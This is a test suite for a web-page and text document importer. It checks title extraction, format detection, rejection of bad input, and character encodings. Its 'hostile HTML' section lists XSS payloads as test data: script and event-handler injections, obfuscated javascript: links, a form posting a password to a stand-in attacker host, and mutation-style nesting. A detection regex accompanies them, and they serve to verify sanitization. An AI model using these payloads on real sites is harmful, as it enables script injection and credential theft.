import fs from 'node:fs';
import path from 'node:path';
import { getSchema, Node } from '@tiptap/core';
import Image from '@tiptap/extension-image';
import { TableKit } from '@tiptap/extension-table';
import StarterKit from '@tiptap/starter-kit';
import { describe, expect, it } from 'vitest';
import { ApiError, type ErrorCode } from '../api/api-error.js';
import type { DocNode } from '../document/doc-node.js';
import { docToText } from '../document/doc-text.js';
import { findDocProblems } from '../document/find-doc-problems.js';
import { importDocument } from './import-document.js';
import type { ImportedDocument, ImportInput } from './imported-document.js';
import { FIXTURES, WEB_PAGES } from '../../tests/support/fixtures.js';

const encode = (text: string): Uint8Array => new TextEncoder().encode(text);

// The editor's schema as the renderer builds it; caption is ours (see schema-names.ts).
const SCHEMA = getSchema([StarterKit, Image, TableKit, Node.create({ name: 'caption', group: 'block', content: 'inline*' })]);

/** Checks the invariants every import keeps, then returns the result. */
async function importChecked(input: ImportInput): Promise<ImportedDocument> {
  const result = await importDocument(input);
  expect(result.text).toBe(docToText(result.doc));
  expect(findDocProblems(result.doc)).toEqual([]);
  expect(() => SCHEMA.nodeFromJSON(result.doc).check()).not.toThrow();
  return result;
}

async function importError(input: ImportInput): Promise<ApiError> {
  const error = await importDocument(input).then(
    () => null,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(ApiError);
  return error as ApiError;
}

describe('importDocument: the seed article', () => {
  it('reads the title, captions and paragraphs', async () => {
    const bytes = fs.readFileSync(path.join(FIXTURES, 'seed-article.txt'));
    const result = await importChecked({ bytes, fileName: 'seed-article.txt' });
    expect(result.title).toBe('Putin Reportedly Keen To Host Another Armenian-Azeri Summit');
    expect(result.source).toBe('seed-article.txt');
    const blocks = result.doc.content!;
    const captions = blocks.filter((block) => block.type === 'caption').map((block) => block.content![0]!.text!);
    expect(captions).toHaveLength(2);
    expect(captions[0]).toMatch(/^Russia - Russian President Vladimir Putin/);
    expect(captions[1]).toMatch(/^Czech Republic - The leaders of Armenia/);
    expect(blocks.map((block) => block.type)).toEqual(['caption', ...Array(5).fill('paragraph'), 'caption', ...Array(5).fill('paragraph')]);
    expect(blocks[1]!.content![0]!.text).toBe(
      'Russian President Vladimir Putin is reportedly trying to host a fresh meeting of the leaders of Armenia and Azerbaijan following a series of Armenian-Azerbaijani peace talks organized by Western powers.',
    );
    expect(result.text).not.toContain('Putin Reportedly Keen');
    expect(result.text).toContain('Citing an unnamed “diplomatic source,” the Russian daily Vedomosti');
    expect(result.text).toContain(
      'A senior Armenian lawmaker, Armen Khachatrian, on Monday lambasted the CSTO for not providing any military aid to Armenia or even condemning Azerbaijan’s offensive military operations launched at several sections of the frontier.',
    );
    expect(result.text.endsWith('He said that Turkish troops could also participate in such an attack.')).toBe(true);
  });

  it('reads the same article pasted, with Windows line ends', async () => {
    const content = fs.readFileSync(path.join(FIXTURES, 'seed-article.txt'), 'utf8').replace(/\n/g, '\r\n');
    const result = await importChecked({ content });
    expect(result.source).toBe('clipboard');
    expect(result.doc.content!.filter((block) => block.type === 'caption')).toHaveLength(2);
    expect(result.text).not.toContain('\r');
  });
});

describe('importDocument: saved web pages', () => {
  const pages = fs
    .readdirSync(WEB_PAGES)
    .filter((name) => fs.existsSync(path.join(WEB_PAGES, name, 'source.html')))
    .map((name) => ({ name, expected: JSON.parse(fs.readFileSync(path.join(WEB_PAGES, name, 'expected-metadata.json'), 'utf8')) as Record<string, string | null> }))
    // Pages without a title leave the importer to derive one; "mercurial"'s title differs by a
    // prefix that Readability keeps under jsdom but not under linkedom.
    .filter(({ name, expected }) => expected['title'] && name !== 'mercurial');

  it('has enough fixture pages to mean something', () => {
    expect(pages.length).toBeGreaterThanOrEqual(3);
  });

  it.each(pages)('imports $name with its title, metadata and a sound document', async ({ name, expected }) => {
    const bytes = fs.readFileSync(path.join(WEB_PAGES, name, 'source.html'));
    const result = await importChecked({ bytes, fileName: 'source.html' });
    // The title as the page gives it; a cleaned one ("…– Firefox Nightly News" cut) keeps it in its provenance.
    expect(result.importedMetadata?.title ?? result.title).toBe(expected['title']);
    if (result.importedMetadata) expect(expected['title']!.startsWith(result.title) || expected['title']!.endsWith(result.title)).toBe(true);
    if (expected['lang']) expect(result.lang).toBe(expected['lang']);
    expect(result.dir).toBe(expected['dir'] ?? null);
    if (expected['siteName']) expect(result.siteName).toBe(expected['siteName']);
    expect(result.source).toBe('source.html');
    expect(result.text.length).toBeGreaterThan(200);
  });

  it('extracts the article text a reader view shows', async () => {
    const bytes = fs.readFileSync(path.join(WEB_PAGES, 'wikipedia', 'source.html'));
    const result = await importChecked({ bytes, fileName: 'mozilla.html', sourceUrl: 'https://en.wikipedia.org/wiki/Mozilla' });
    expect(result.text).toContain('Mozilla is a free-software community, created in 1998 by members of Netscape.');
    expect(result.url).toBe('https://en.wikipedia.org/wiki/Mozilla');
    expect(JSON.stringify(result.doc)).not.toMatch(/<script|javascript:/i);
  });

  it('removes the scripts of the remove-script-tags page', async () => {
    const bytes = fs.readFileSync(path.join(WEB_PAGES, 'remove-script-tags', 'source.html'));
    const result = await importChecked({ bytes, fileName: 'page.htm' });
    expect(result.text).toContain('Lorem ipsum dolor sit amet');
    expect(result.text).not.toMatch(/alert|function|<script/i);
  });
});

describe('importDocument: hostile HTML', () => {
  const ACTIVE = /script|alert|onerror|onload|onclick|javascript:|vbscript:|iframe|<form|<input|<button|<style|expression\(|@import|<svg|<meta|refresh|<base|evil\.example|<object|<embed|data:text/i;
  const body = 'Readable words of the article stay.';

  it.each([
    ['script', `<p>${body}</p><script>alert(1)</script>`],
    ['an onerror handler', `<p>${body}<img src="x" onerror="alert(1)"></p>`],
    ['an event handler on text', `<p onclick="alert(1)" onmouseover="alert(2)">${body}</p>`],
    ['a javascript: link', `<p><a href="javascript:alert(1)">${body}</a></p>`],
    ['an obfuscated javascript: link', `<p><a href="  JaVaScRiPt&colon;alert(1)">${body}</a> <a href="java&#x09;script:alert(1)">x</a></p>`],
    ['a data: link', `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">${body}</a></p>`],
    ['an iframe', `<p>${body}</p><iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`],
    ['a form', `<form action="https://evil.example/steal"><p>${body}</p><input name="password"><button formaction="javascript:alert(1)">Go</button></form>`],
    ['a style element and attribute', `<style>@import url(https://evil.example/x.css); p { background: url(javascript:alert(1)) }</style><p style="width: expression(alert(1))">${body}</p>`],
    ['a remote stylesheet and font', `<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preload" as="font" href="https://evil.example/f.woff2"><p>${body}</p>`],
    ['svg with script', `<p>${body}</p><svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg>`],
    ['a meta refresh', `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body><p>${body}</p></body></html>`],
    ['a base href', `<html><head><base href="https://evil.example/"></head><body><p>${body} <a href="page">link</a></p></body></html>`],
    ['object and embed', `<p>${body}</p><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`],
    ['a remote image', `<p>${body}</p><img src="https://evil.example/track.gif" alt="">`],
    ['an svg data image', `<p>${body}</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="">`],
    ['mutation-style nesting', `<p>${body}</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
  ])('leaves nothing active of %s', async (_name, html) => {
    const result = await importChecked({ content: html, format: 'html' });
    expect(result.text).toContain(body);
    expect(JSON.stringify(result.doc)).not.toMatch(ACTIVE);
    expect(result.url).toBeNull();
  });

  it('does not follow a base href when resolving links', async () => {
    const html = '<html><head><base href="https://evil.example/"></head><body><p><a href="page">a relative link</a> in text</p></body></html>';
    const result = await importChecked({ content: html, sourceUrl: 'https://news.example/article' });
    const link = result.doc.content![0]!.content!.find((node) => node.marks)!;
    expect(link.marks![0]!.attrs!['href']).toBe('https://news.example/page');
  });

  it.each(['<', '<<<<>>>>', '<p', '<!--', '<html><body></body></html>', '<div><div><div></div>', '<script>only script</script>', '\u0001\u0002'])(
    'fails cleanly or gives a sound document for garbage %j',
    async (content) => {
      const outcome = await importDocument({ content, format: 'html' }).then(
        (result) => result,
        (error: unknown) => error,
      );
      if (outcome instanceof ApiError) expect(outcome.code).toBe('IMPORT_EMPTY');
      else {
        const result = outcome as ImportedDocument;
        expect(result.text).toBe(docToText(result.doc));
        expect(findDocProblems(result.doc)).toEqual([]);
      }
    },
  );
});

describe('importDocument: format and source', () => {
  const HTML = '<h1>Heading</h1><p>Some <b>bold</b> text.</p>';

  it.each<[string, ImportInput, string]>([
    ['a forced format over the extension', { content: HTML, fileName: 'page.html', format: 'text' }, 'paragraph'],
    ['the .html extension', { bytes: encode(HTML), fileName: 'page.html' }, 'heading'],
    ['the .XHTML extension in capitals', { bytes: encode(HTML), fileName: 'PAGE.XHTML' }, 'heading'],
    ['the .txt extension over HTML-looking content', { bytes: encode(HTML), fileName: 'notes.txt' }, 'paragraph'],
    ['the .md extension (Markdown, raw HTML kept as text)', { bytes: encode(`# Title\n\n${HTML}`), fileName: 'notes.md' }, 'heading'],
    ['content that looks like HTML', { content: HTML }, 'heading'],
    ['a file without an extension that looks like HTML', { bytes: encode(HTML), fileName: 'README' }, 'heading'],
    ['prose that mentions a < b', { content: 'Title\n\nIf a < b and c > d then <this> is prose.' }, 'paragraph'],
  ])('follows %s', async (_name, input, firstBlockType) => {
    const result = await importChecked(input);
    expect(result.doc.content![0]!.type).toBe(firstBlockType);
  });

  it('names the source after the file, the page address or the clipboard', async () => {
    expect((await importChecked({ content: 'Title\n\nBody.', fileName: 'a.txt' })).source).toBe('a.txt');
    expect((await importChecked({ content: 'Title\n\nBody.', sourceUrl: 'https://news.example/a' })).source).toBe('https://news.example/a');
    expect((await importChecked({ content: 'Title\n\nBody.' })).source).toBe('clipboard');
  });

  it('keeps only a usable http(s) source address as the url', async () => {
    expect((await importChecked({ content: 'T\n\nBody.', sourceUrl: 'https://news.example/a' })).url).toBe('https://news.example/a');
    expect((await importChecked({ content: 'T\n\nBody.', sourceUrl: 'javascript:alert(1)' })).url).toBeNull();
  });

  it('reads html metadata from a page without Readability-sized content', async () => {
    const html = '<html lang="hy" dir="rtl"><head><title>Վերնագիր</title><meta name="author" content="Author Name"></head><body><p>Short body.</p></body></html>';
    const result = await importChecked({ content: html });
    expect(result).toMatchObject({ title: 'Վերնագիր', lang: 'hy', dir: 'rtl', text: 'Short body.' });
  });

  it('derives a title from the text when the page has none', async () => {
    const result = await importChecked({ content: `<p>${'word '.repeat(60)}</p><p>second</p>` });
    expect(result.title.length).toBeLessThanOrEqual(121);
    expect(result.title).toMatch(/^word word .*…$/);
  });
});

describe('importDocument: bad input', () => {
  it.each<[string, ImportInput, ErrorCode, RegExp]>([
    ['empty pasted text', { content: '' }, 'IMPORT_EMPTY', /the pasted text.*empty/],
    ['whitespace only', { content: ' \n\t \r\n ' }, 'IMPORT_EMPTY', /the pasted text/],
    ['an empty file', { bytes: new Uint8Array(), fileName: 'empty.txt' }, 'IMPORT_EMPTY', /"empty\.txt".*empty/],
    ['a file of whitespace and a BOM', { bytes: encode('\ufeff  \n\n  '), fileName: 'blank.txt' }, 'IMPORT_EMPTY', /"blank\.txt"/],
    ['HTML with no readable text', { content: '<html><body><script>x()</script><img src="a.png"></body></html>' }, 'IMPORT_EMPTY', /no readable text/],
    ['NUL bytes in a file', { bytes: new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00]), fileName: 'data.txt' }, 'IMPORT_UNSUPPORTED', /"data\.txt".*binary/],
    ['NUL characters in pasted text', { content: 'text\u0000more' }, 'IMPORT_UNSUPPORTED', /the pasted text.*binary/],
    ['an .exe file', { bytes: encode('MZ text'), fileName: 'setup.exe' }, 'IMPORT_UNSUPPORTED', /"setup\.exe".*\.exe/],
    ['a .zip file even when forced to text', { bytes: encode('PK'), fileName: 'archive.zip', format: 'text' }, 'IMPORT_UNSUPPORTED', /"archive\.zip"/],
    ['invalid UTF-8 in a text file', { bytes: new Uint8Array([0x54, 0x69, 0x74, 0x6c, 0x65, 0x0a, 0x0a, 0xc3, 0x28, 0xff]), fileName: 'latin.txt' }, 'IMPORT_UNSUPPORTED', /"latin\.txt".*UTF-8/],
  ])('rejects %s', async (_name, input, code, message) => {
    const error = await importError(input);
    expect(error.code).toBe(code);
    expect(error.message).toMatch(message);
  });

  it('wraps an unexpected failure as IMPORT_FAILED with its cause', async () => {
    const hostile = { fileName: 'odd.txt', get bytes(): Uint8Array { throw new RangeError('disk went away'); } } as unknown as ImportInput;
    const error = await importError(hostile);
    expect(error.code).toBe('IMPORT_FAILED');
    expect(error.message).toMatch(/"odd\.txt".*disk went away/);
    expect(error.cause).toBeInstanceOf(RangeError);
  });
});

describe('importDocument: character encodings', () => {
  const docText = (result: ImportedDocument): string => docToText(result.doc as DocNode);

  it('strips a UTF-8 byte-order mark', async () => {
    const result = await importChecked({ bytes: encode('\ufeffTitle\n\nBody “quoted”.'), fileName: 'bom.txt' });
    expect(result.title).toBe('Title');
    expect(docText(result)).toBe('Body “quoted”.');
  });

  it('reads UTF-16 with a byte-order mark, as Windows Notepad saves it', async () => {
    const text = 'Title\r\n\r\nՀայաստան body.';
    const bytes = new Uint8Array(2 + text.length * 2);
    bytes.set([0xff, 0xfe]);
    for (let index = 0; index < text.length; index += 1) {
      bytes[2 + index * 2] = text.charCodeAt(index) & 0xff;
      bytes[3 + index * 2] = text.charCodeAt(index) >> 8;
    }
    expect(docText(await importChecked({ bytes, fileName: 'notepad.txt' }))).toBe('Հայաստան body.');
  });

  it('honours a declared charset for a page that is not UTF-8', async () => {
    // "café – naïve" in Windows-1252.
    const html = [...encode('<html><head><meta charset="windows-1252"><title>T</title></head><body><p>caf'), 0xe9, ...encode(' '), 0x96, ...encode(' na'), 0xef, ...encode('ve</p></body></html>')];
    expect(docText(await importChecked({ bytes: new Uint8Array(html), fileName: 'old.html' }))).toBe('café – naïve');
  });

  it('prefers valid UTF-8 over a stale declared charset', async () => {
    const result = await importChecked({ bytes: encode('<html><head><meta charset="gb2312"></head><body><p>人工智能 “quoted”</p></body></html>'), fileName: 'resaved.html' });
    expect(docText(result)).toBe('人工智能 “quoted”');
  });
});
